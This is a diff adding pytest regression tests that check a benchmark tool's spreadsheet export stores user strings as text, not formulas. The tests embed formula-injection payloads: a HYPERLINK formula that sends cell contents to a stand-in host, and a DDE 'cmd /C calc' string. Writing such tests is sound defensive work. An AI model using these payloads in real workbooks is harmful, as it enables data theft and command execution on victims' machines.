@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import dataclasses
 import json
 import math
 from pathlib import Path
@@ -9,6 +10,7 @@ from pathlib import Path
 import openpyxl
 import pandas as pd
 import pytest
+from cli_helpers import FAST, run_cli
 from split_table_data import NETWORKS, OUTPUT_BYTES, SETTINGS, SHA, SLOW, UNRESOLVED, N, fill
 from splitbench.measure.types import PartMeasurement, RunSettings
 from splitbench.report.export import (
@@ -191,3 +193,63 @@ def test_every_column_is_defined_once_and_undefined_ones_are_refused(
         assert sum(c.matches(name) for c in columns.COLUMNS) == 1, name
     with pytest.raises(ValueError, match=r"not defined in splitbench\.report\.columns"):
         write_csv(table.assign(mystery_ms=1.0), tmp_path / "x.csv")
+
+
+# What a spreadsheet would run if it were stored as a formula (issue 18, item 3).
+FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"x")+cmd|\' /C calc\'!A0'
+
+
+def test_workbook_stores_every_user_string_as_text(table: pd.DataFrame, tmp_path: Path) -> None:
+    """File and tensor names, serials, network sources, notes and errors that start with "="
+    are text in every sheet, never formulas, and read back unchanged."""
+    hostile = table.copy()
+    hostile["cut_tensors"] = hostile["cut_tensors"].astype(object)
+    hostile.loc[0, "cut_tensors"] = FORMULA
+    hostile.loc[2, "client_error"] = FORMULA + " error"
+    networks = [dataclasses.replace(NETWORKS[0], source=FORMULA + " source"), *NETWORKS[1:]]
+    meta = {
+        "model": {"name": FORMULA + ".onnx", "path": f"/models/{FORMULA}.onnx", "sha256": SHA},
+        "client": {"name": "adb:" + FORMULA, "serial": FORMULA},
+        "notes": {"user": FORMULA + " note"},
+        FORMULA: "a key too",
+        "versions": [FORMULA, "=1+1"],
+        "error_code": "#N/A",
+    }
+    wb = openpyxl.load_workbook(write_xlsx(hostile, networks, tmp_path / "h.xlsx", meta))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    by_value = {c.value: c for c in cells}
+    expected = [
+        FORMULA,  # cut tensors (KPIs sheet) and a metadata key
+        FORMULA + " error",
+        FORMULA + " source",
+        FORMULA + ".onnx",
+        f"/models/{FORMULA}.onnx",
+        "adb:" + FORMULA,
+        FORMULA + " note",
+        f"{FORMULA}, =1+1",
+        "#N/A",
+    ]
+    for value in expected:
+        assert value in by_value, value
+        assert by_value[value].data_type == "s", value
+    kpis = wb["KPIs per split"]
+    column = [c.value for c in kpis[1]].index("cut_tensors") + 1
+    assert kpis.cell(row=2, column=column).value == FORMULA
+    assert kpis.cell(row=2, column=column).data_type == "s"
+
+
+def test_sweep_of_a_model_named_like_a_formula_writes_text(
+    chain_tflite: Path, tmp_path: Path
+) -> None:
+    """The issue's case through the CLI: the model file's name lands in the Metadata sheet."""
+    name = '=HYPERLINK("x","y")+cmd|calc!A0'
+    model = tmp_path / f"{name}.tflite"
+    model.write_bytes(chain_tflite.read_bytes())
+    run_cli("sweep", model, "--out", tmp_path / "run", *FAST).ok()
+    wb = openpyxl.load_workbook(tmp_path / "run" / "splits.xlsx")
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    named = {c.value: c.data_type for c in cells if isinstance(c.value, str) and name in c.value}
+    assert named[name] == "s" and set(named.values()) == {"s"}  # the name; the path
+    assert any(value.endswith(f"/{name}.tflite") for value in named)
